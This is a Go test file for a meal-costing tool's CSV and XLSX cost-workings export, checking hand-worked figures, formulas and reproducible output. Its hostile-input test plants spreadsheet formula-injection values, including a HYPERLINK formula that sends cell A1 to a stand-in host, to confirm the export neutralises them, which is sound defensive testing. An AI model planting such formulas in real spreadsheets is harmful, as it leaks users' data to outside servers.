package main

import (
	"archive/zip"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// block is a table of a workings sheet: its heading, then its rows.
type block [][]string

// column of a block by its heading, which may go on with the currency.
func (b block) column(t *testing.T, head string) (cells []string) {
	t.Helper()
	i := slices.IndexFunc(b[0], func(h string) bool { return h == head || strings.HasPrefix(h, head+", XTS") })
	if i < 0 {
		t.Fatalf("no column %s in %q", head, b[0])
	}
	for _, r := range b[1:] {
		cell := ""
		if i < len(r) {
			cell = r[i]
		}
		cells = append(cells, cell)
	}
	return cells
}

// workingsCSV are the blocks of a workings sheet in CSV by their names, and all its text.
func workingsCSV(t *testing.T, path string) (map[string]block, string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(string(b), "\ufeff")
	if !marked || strings.Count(text, "\n") != strings.Count(text, "\r\n") {
		t.Errorf("%s: want the mark of UTF-8 and lines that end in CR LF", path)
	}
	all := map[string]block{}
	for part := range strings.SplitSeq(text, "\r\n\r\n") {
		r := csv.NewReader(strings.NewReader(part))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		all[rows[0][0]] = rows[1:]
	}
	return all, text
}

// workingsBook are the tables of a workings sheet in XLSX, as shown. It wants
// each formula to come to the value that the cell holds, and the accessible form.
func workingsBook(t *testing.T, path string) map[string]block {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all := map[string]block{}
	formulas := 0
	for i, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		all[sheet] = rows
		if merged, err := f.GetMergeCells(sheet); err != nil || len(merged) > 0 {
			t.Errorf("%s: got merged cells %v, %v", sheet, merged, err)
		}
		if i == 0 {
			continue
		}
		corner, _ := excelize.CoordinatesToCellName(len(rows[0]), len(rows))
		if tables, err := f.GetTables(sheet); err != nil || len(tables) != 1 || tables[0].Range != "A1:"+corner {
			t.Errorf("%s: got the tables %+v, %v, want one over A1:%s", sheet, tables, err, corner)
		}
		for y := range rows {
			for x := range rows[0] {
				cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
				formula, err := f.GetCellFormula(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if formula == "" {
					continue
				}
				formulas++
				held, _ := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
				computed, err := f.CalcCellValue(sheet, cell, excelize.Options{RawCellValue: true})
				a, errA := strconv.ParseFloat(held, 64)
				b, errB := strconv.ParseFloat(computed, 64)
				if err != nil || errA != nil || errB != nil || math.Abs(a-b) > 1e-9*max(1, math.Abs(a)) { // sums of a few decimals in floating point
					t.Errorf("%s!%s =%s: holds %q, comes to %q, %v", sheet, cell, formula, held, computed, err)
				}
			}
		}
	}
	if formulas == 0 {
		t.Error("no formula was met")
	}
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	alts := 0
	for _, part := range z.File {
		if y := part.Modified.Year(); y != 1980 {
			t.Errorf("%s is of %v", part.Name, part.Modified)
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(part.Name, ".xml") && xml.Unmarshal(b, new(struct{})) != nil {
			t.Errorf("%s is no XML", part.Name)
		}
		if strings.HasPrefix(part.Name, "xl/tables/") && strings.Contains(string(b), `altTextSummary="`) {
			alts++
		}
	}
	if alts != len(all)-1 {
		t.Errorf("got %d tables with an alternative text, want %d", alts, len(all)-1)
	}
	return all
}

// TestWorkings holds the workings sheets of the demo to the figures of TestMeals,
// worked out by hand, line by line, and the two forms to each other.
func TestWorkings(t *testing.T) {
	dir := kitchenDemo(t)
	out := t.TempDir()
	write := func(t *testing.T, name, file string, args ...string) string {
		t.Helper()
		path := filepath.Join(out, file)
		farthing(t, exitDone, append([]string{"meal", name, "--workspace", dir, "--workings", path}, args...)...)
		return path
	}
	for _, c := range []struct {
		name         string
		costs, tills []string
		total, till  string
		serving      string
	}{
		// 400 g at 3.60 a kg, 120 g at 2.40, two of 125 g at 1.50, 400 g at 2.50, 30 mL at 4.80, salt free; a 500 g, two 1 kg packs and a 400 g tin.
		{"lentil-loaf", []string{"1.4400", "0.2880", "0.3750", "1.0000", "0.1440", "0.0000"}, []string{"1.5000", "1.8000", "2.4000", "0.0000", "1.0000"}, "3.25", "6.7000", "0.8118"},
		// 300 g at 2.20, 400 g at 24, 500 g / .80 at 1.90, 800 g / .85 at 1.30: 1.22353; together 12.6710
		{"barley-pot", []string{"0.6600", "9.6000", "1.1875", "1.2235"}, []string{"1.1000", "1.9000", "2.6000", "9.6000"}, "12.67", "15.2000", "3.1678"},
		// 300 g at 2.40, 1 L at 1.20, 500 g / .94 at 3.20: 1.70213; together 3.6221, for 6
		{"oat-bake", []string{"0.7200", "1.2000", "1.7021"}, []string{"1.2000", "2.4000", "3.2000"}, "3.62", "6.8000", "0.6037"},
	} {
		text := write(t, c.name, c.name+".csv")
		in, all := workingsCSV(t, text)
		book := workingsBook(t, write(t, c.name, c.name+".XLSX"))
		for form, b := range map[string]map[string]block{"csv": in, "xlsx": book} {
			lines := b["Workings"]
			if form == "csv" {
				if got := lines.column(t, "Cost"); !slices.Equal(got, c.costs) {
					t.Errorf("%s: got the costs %q, want %q", c.name, got, c.costs)
				}
			}
			for i, got := range lines.column(t, "Cost") {
				if got != c.costs[i] {
					t.Errorf("%s %s, line %d: got %s, want %s", c.name, form, i+1, got, c.costs[i])
				}
			}
			if got := b["Till"].column(t, "At the till"); !slices.Equal(got, c.tills) {
				t.Errorf("%s %s: got at the till %q, want %q", c.name, form, got, c.tills)
			}
			totals := map[string]string{}
			for i, what := range b["Totals"].column(t, "What") {
				totals[what] = b["Totals"].column(t, "Amount")[i]
			}
			for what, want := range map[string]string{"Portion cost": c.total, "At the till": c.till, "A serving": c.serving} {
				if got, want := decimal(t, totals[what]), decimal(t, want); got != want {
					t.Errorf("%s %s, %s: got %v, want %v", c.name, form, what, got, want)
				}
			}
		}
		// The pencil: the printed quantity, yield, price and pack give the printed cost.
		lines := in["Workings"]
		quantity, yield, size, price, supply := lines.column(t, "Quantity"), lines.column(t, "Yield"), lines.column(t, "Pack size"), lines.column(t, "Pack price"), lines.column(t, "Supply")
		sum := 0.
		for i, cost := range c.costs {
			sum += decimal(t, cost)
			if supply[i] == "free" {
				continue
			}
			used := decimal(t, quantity[i])
			if yield[i] != "" {
				used /= decimal(t, yield[i])
			}
			if got := fmt.Sprintf("%.4f", used*decimal(t, price[i])/decimal(t, size[i])); got != cost {
				t.Errorf("%s, line %d: the pencil comes to %s, printed is %s", c.name, i+1, got, cost)
			}
		}
		if fmt.Sprintf("%.2f", sum) != c.total {
			t.Errorf("%s: the printed costs make %v, want %s", c.name, sum, c.total)
		}
		// The two forms hold the same cells, but for the digits of numbers.
		for name, rows := range book {
			for y, r := range rows {
				for x, cell := range r {
					if name == "Cover" {
						continue
					}
					got, err := strconv.ParseFloat(cell, 64)
					want, errW := strconv.ParseFloat(in[name][y][x], 64)
					if (err != nil || errW != nil || math.Abs(got-want) > 1e-12) && cell != in[name][y][x] {
						t.Errorf("%s %s, row %d, column %d: got %q, in CSV %q", c.name, name, y, x, cell, in[name][y][x])
					}
				}
			}
		}
		cover := fmt.Sprint(book["Cover"])
		for _, want := range []string{"Workings: " + c.name, "Tavrin", "2023-01-31", "2023-01", "persons: 4", "not dietary advice", "local food-safety guidance", "local rules", "invented", editionOf(t, dir)} {
			if !strings.Contains(all, want) || !strings.Contains(cover, want) {
				t.Errorf("%s: nothing of %q in it", c.name, want)
			}
		}
		// The command that it names makes the same bytes, in both forms.
		for _, file := range []string{c.name + ".csv", c.name + ".XLSX"} {
			command := regexp.MustCompile(`farthing (meal [^"\]]*) --workings workings\.csv`).FindStringSubmatch(all)
			if command == nil {
				t.Fatalf("no command in %s", all)
			}
			again := filepath.Join(out, "again"+strings.ToLower(filepath.Ext(file)))
			farthing(t, exitDone, append(strings.Fields(command[1]), "--workspace", dir, "--workings", again)...)
			one, err1 := os.ReadFile(filepath.Join(out, file))
			two, err2 := os.ReadFile(again)
			if err1 != nil || err2 != nil || string(one) != string(two) {
				t.Errorf("%s again: %v, %v, same bytes %v", file, err1, err2, string(one) == string(two))
			}
		}
	}

	// At a shop each price has its day and its note.
	path := write(t, "porridge", "shop.csv", "--outlet", "brask-market", "--on", "2023-03-01", "--servings", "100", "--with", "oats=standard", "--then", "week")
	in, all := workingsCSV(t, path)
	workingsBook(t, write(t, "porridge", "shop.xlsx", "--outlet", "brask-market", "--on", "2023-03-01"))
	lines := in["Workings"]
	id, seen, from, cost := lines.column(t, "Observation"), lines.column(t, "Oldest price seen on"), lines.column(t, "Price of"), lines.column(t, "Cost")
	notes, err := os.ReadFile(filepath.Join(dir, "site", "data", "observations.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []string{"11.6500", "18.7500", "0.0000"} { // 5 kg of oats at 2.33, 15 L of milk at 1.25, salt free
		if cost[i] != want {
			t.Errorf("a hundred, line %d: got %s, want %s", i+1, cost[i], want)
		}
		if i == 2 {
			continue
		}
		note := regexp.MustCompile(`(?m)^.*` + id[i] + `.*$`).FindString(string(notes))
		if id[i] == "" || from[i] != "brask-market" || !strings.Contains(note, seen[i]) {
			t.Errorf("line %d: got %q of %q seen on %q, its note is %q", i+1, id[i], from[i], seen[i], note)
		}
	}
	for _, want := range []string{"--outlet brask-market", "--on 2023-03-01", "--max-age-days 60", "--servings 100", "--with oats=standard", "--then week", `"Outlet","brask-market"`} {
		if !strings.Contains(all, want) {
			t.Errorf("nothing of %q in it", want)
		}
	}
	// A plan with a pantry, all bought, is a sheet of many lines.
	week := workingsBook(t, write(t, "week", "week.xlsx", "--pantry", "kitchen", "--buy-cupboard"))
	if len(week["Workings"]) < 15 || !slices.Contains(week["Totals"].column(t, "What"), "A person's day") {
		t.Errorf("the week: got %d lines, %v", len(week["Workings"]), week["Totals"])
	}

	// A file that is neither is told before anything is read, and none is left.
	for _, file := range []string{"loaf.ods", "loaf", "loaf.csv.txt"} {
		path := filepath.Join(out, file)
		code, _, said := called("meal", "lentil-loaf", "--workspace", filepath.Join(dir, "nowhere"), "--workings", path)
		if _, err := os.Stat(path); code != exitUsage || !strings.Contains(said, ".csv or .xlsx") || err == nil {
			t.Errorf("%s: got exit %d, %q, file there %v", file, code, said, err == nil)
		}
	}
}

func decimal(t *testing.T, text string) float64 {
	t.Helper()
	v, err := strconv.ParseFloat(text, 64)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func editionOf(t *testing.T, dir string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, "editions", "current"))
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(b))
}

// TestWorkingsHostile: a missing cost leaves the total blank, and texts of the
// tables can not run in a spreadsheet, whatever they begin with.
func TestWorkingsHostile(t *testing.T) {
	dir := kitchenDemo(t)
	replace := func(name, old, new string) {
		path := filepath.Join(dir, "tables", name)
		b, err := os.ReadFile(path)
		if err != nil || !strings.Contains(string(b), old) {
			t.Fatalf("%s: %v, no %q", name, err, old)
		}
		if err := os.WriteFile(path, []byte(strings.Replace(string(b), old, new, 1)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	const name, note, source = `=HYPERLINK("http://host.invalid/"&A1,"x")`, "\u00a0@SUM(1+1)", `-2+3 "quoted", it's`
	quoted := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	replace("items.csv", `"Lentils, dried"`, quoted(name))
	replace("recipes.csv", "porridge,1,", "mush,1,2,lentils,,,100,g,AP,,,bought,,,"+quoted(note)+"\nmush,2,2,cabbage,,,100,g,EP,torn,,bought,,,\nmush,3,2,oats,,golden,100,g,AP,,,bought,,,\nmush,4,2,potatoes,,,,,AP,,,bought,,,\n"+
		"mush,5,2,potatoes,,,400,g,EP,grated,,bought,,,\nporridge,1,")
	replace("yields.csv", "cabbage,trimmed", "cabbage,torn,EP,0.50,"+quoted(source)+"\ncabbage,trimmed")
	farthing(t, exitDone, "run", "--workspace", dir, "--quiet")
	out := t.TempDir()
	for _, file := range []string{"mush.csv", "mush.xlsx"} {
		farthing(t, exitDone, "meal", "mush", "--workspace", dir, "--workings", filepath.Join(out, file))
	}
	in, _ := workingsCSV(t, filepath.Join(out, "mush.csv"))
	book := workingsBook(t, filepath.Join(out, "mush.xlsx"))
	for form, b := range map[string]map[string]block{"csv": in, "xlsx": book} {
		mark := map[string]string{"csv": "'"}[form]
		lines := b["Workings"]
		for _, c := range []struct{ head, want string }{{"Item", mark + name}, {"Note", mark + strings.TrimSpace(note)}} {
			if got := lines.column(t, c.head)[0]; got != c.want && got != mark+note {
				t.Errorf("%s: got %s %q, want %q", form, c.head, got, c.want)
			}
		}
		if got := lines.column(t, "Yield from")[1]; got != mark+source {
			t.Errorf("%s: got %q, want %q", form, got, mark+source)
		}
		// By hand: 100 g at 3.60 a kg, 100 g / .50 at 1.90, no price of golden oats, no quantity of potatoes, 400 g / .85 at 1.30 = .61176
		for i, want := range []string{"0.3600", "0.3800", "", "", "0.6118"} {
			lacks := lines.column(t, "What is lacking")[i]
			if got := lines.column(t, "Cost")[i]; got != want || (lacks == "") != (want != "") {
				t.Errorf("%s, line %d: got %q, lacking %q, want %q", form, i+1, got, lacks, want)
			}
		}
		totals := map[string]string{}
		for i, what := range b["Totals"].column(t, "What") {
			totals[what] = b["Totals"].column(t, "Amount")[i]
		}
		for what, want := range map[string]string{"Portion cost": "", "Known part of it": "1.35", "At the till": "", "Allowance less cost": ""} { // .36 + .38 + .6118 = 1.3518
			if got, there := totals[what]; !there || got != want {
				t.Errorf("%s, %s: got %q, %v, want %q", form, what, got, there, want)
			}
		}
	}
	f, err := excelize.OpenFile(filepath.Join(out, "mush.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	own := regexp.MustCompile(`^[A-Z]+[0-9]+[/*][A-Z]+[0-9]+$|^ROUND\([A-Z0-9!:()*/,-]+\)$|^SUM\([A-Z0-9!:]+\)$`)
	for _, sheet := range f.GetSheetList() {
		for y, r := range book[sheet] {
			for x := range r {
				cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" && !own.MatchString(strings.ReplaceAll(strings.ReplaceAll(formula, "Workings", "W"), "Till", "T")) {
					t.Errorf("%s!%s: got the formula %s", sheet, cell, formula)
				}
			}
		}
	}
}
